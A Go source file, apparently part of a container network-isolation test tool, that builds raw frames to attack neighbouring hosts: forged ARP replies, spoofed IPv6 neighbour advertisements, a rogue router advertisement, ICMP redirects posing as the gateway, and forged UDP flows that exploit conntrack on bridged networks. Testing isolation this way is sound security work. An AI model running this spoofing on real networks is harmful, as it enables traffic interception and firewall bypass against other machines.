package main

import (
	"encoding/binary"
	"net/netip"

	"golang.org/x/sys/unix"
)

// poison sends what would make others send to this container, or take it for somebody else. Sibling and gateway are
// told lies about each other, and everybody about both.
func (h host) poison() {
	everybody := hardware{255, 255, 255, 255, 255, 255}
	for _, lie := range []struct {
		of, to netip.Addr
		mac    hardware
	}{
		{h.gate[0], h.sibling.addrs[0], h.sibling.mac}, {h.sibling.addrs[0], h.gate[0], h.gateMAC},
		{h.gate[0], h.gate[0], everybody}, {h.sibling.addrs[0], h.sibling.addrs[0], everybody},
		{h.addrs[0], h.gate[0], h.gateMAC},
	} {
		for operation := range 2 { // RFC 826: request, reply
			h.wire.put(ethernet(lie.mac, h.mac, unix.ETH_P_ARP, h.arp(operation+1, lie.of, lie.to)))
			h.wire.put(ethernet(lie.mac, h.mac, unix.ETH_P_ARP, h.arp(operation+1, lie.of, lie.to), 0x8100_0000))
		}
	}
	if h.addrs[1].IsValid() {
		h.poison6()
	}
	h.groups()
}

func (h host) arp(operation int, of, to netip.Addr) []byte {
	p := []byte{0, 1, 8, 0, 6, 4, 0, byte(operation)}
	p = append(append(p, h.mac[:]...), of.AsSlice()...)
	return append(append(p, make([]byte, 6)...), to.AsSlice()...)
}

// poison6 lies by neighbour discovery (RFC 4861): advertisements that override, a router's, redirects.
func (h host) poison6() {
	nodes, gate, sibling := netip.MustParseAddr("ff02::1"), h.gate[1], h.sibling.addrs[1]
	for _, lie := range []struct {
		of, to netip.Addr
		mac    hardware
	}{
		{gate, sibling, h.sibling.mac}, {sibling, gate, h.gateMAC},
		{gate, nodes, hardware{0x33, 0x33, 0, 0, 0, 1}}, {sibling, nodes, hardware{0x33, 0x33, 0, 0, 0, 1}},
	} {
		advert := append([]byte{136, 0, 0, 0, 0xe0, 0, 0, 0}, lie.of.AsSlice()...)
		h.discovery(lie.mac, lie.of, lie.to, append(append(advert, 2, 1), h.mac[:]...))
		h.discovery(lie.mac, h.linkLocal, lie.to, append(append(advert, 2, 1), h.mac[:]...))
		redirect := append(append([]byte{137, 0, 0, 0, 0, 0, 0, 0}, h.linkLocal.AsSlice()...), netip.MustParseAddr("2001:db8:1::1").AsSlice()...)
		h.discovery(lie.mac, lie.of, lie.to, append(append(redirect, 2, 1), h.mac[:]...))
	}
	router := []byte{134, 0, 0, 0, 64, 0, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1}
	h.discovery(hardware{0x33, 0x33, 0, 0, 0, 1}, h.linkLocal, nodes, append(router, h.mac[:]...))
}

// discovery is sent with the hop limit that neighbour discovery asks for.
func (h host) discovery(mac hardware, from, to netip.Addr, message []byte) {
	d := datagrams{from, to, unix.IPPROTO_ICMPV6, icmp6(from, to, message)}
	packet := d.whole(0)
	packet[7] = 255
	h.wire.put(ethernet(mac, h.mac, unix.ETH_P_IPV6, packet))
}

// groups joins and leaves: IGMPv2 (RFC 2236), MLD (RFC 2710), and an ICMP redirect in the gateway's name.
func (h host) groups() {
	group := netip.MustParseAddr("224.0.0.251")
	for _, kind := range []byte{0x11, 0x16, 0x17} {
		m := append([]byte{kind, 0, 0, 0}, group.AsSlice()...)
		binary.BigEndian.PutUint16(m[2:], ones(m))
		d := datagrams{h.addrs[0], group, unix.IPPROTO_IGMP, m}
		h.wire.put(ethernet(hardware{1, 0, 0x5e, 0, 0, 0xfb}, h.mac, unix.ETH_P_IP, d.whole(0, 148, 4, 0, 0)))
	}
	if h.linkLocal.IsValid() {
		group := netip.MustParseAddr("ff02::fb")
		m := append([]byte{131, 0, 0, 0, 0, 0, 0, 0}, group.AsSlice()...)
		d := datagrams{h.linkLocal, group, unix.IPPROTO_ICMPV6, icmp6(h.linkLocal, group, m)}
		h.wire.put(ethernet(hardware{0x33, 0x33, 0, 0, 0, 0xfb}, h.mac, unix.ETH_P_IPV6, d.whole(0)))
	}
	inner := datagrams{h.sibling.addrs[0], netip.MustParseAddr("203.0.113.1"), unix.IPPROTO_UDP, make([]byte, 8)}
	m := append(append([]byte{5, 1, 0, 0}, h.addrs[0].AsSlice()...), inner.whole(0)...)
	binary.BigEndian.PutUint16(m[2:], ones(m))
	d := datagrams{h.gate[0], h.sibling.addrs[0], unix.IPPROTO_ICMP, m}
	h.wire.put(ethernet(h.sibling.mac, h.mac, unix.ETH_P_IP, d.whole(0)))
}

// answerItself plays both ends of a flow: a packet to the target, its answer from the target, and then what the answer
// would let pass. Frames to everybody are known to conntrack before anybody judges them, where bridged packets are
// filtered (br_nf_local_in confirms them since Linux 6.8).
func (h host) answerItself(to netip.AddrPort) {
	own := h.addrs[0]
	if to.Addr().Is6() {
		own = h.addrs[1]
	}
	if !own.IsValid() {
		return
	}
	from, everybody := netip.AddrPortFrom(own, 40001), hardware{255, 255, 255, 255, 255, 255}
	udp := func(from, to netip.AddrPort) datagrams {
		return datagrams{from.Addr(), to.Addr(), unix.IPPROTO_UDP, ported(from, to, unix.IPPROTO_UDP, datagram(make([]byte, 24)))}
	}
	there, back := udp(from, to), udp(to, from)
	h.wire.put(ethernet(everybody, h.mac, there.kind(), there.whole(0)))
	h.wire.put(ethernet(everybody, h.mac, back.kind(), back.whole(0)))
	h.wire.put(ethernet(h.gateMAC, h.mac, there.kind(), there.whole(0)))
}
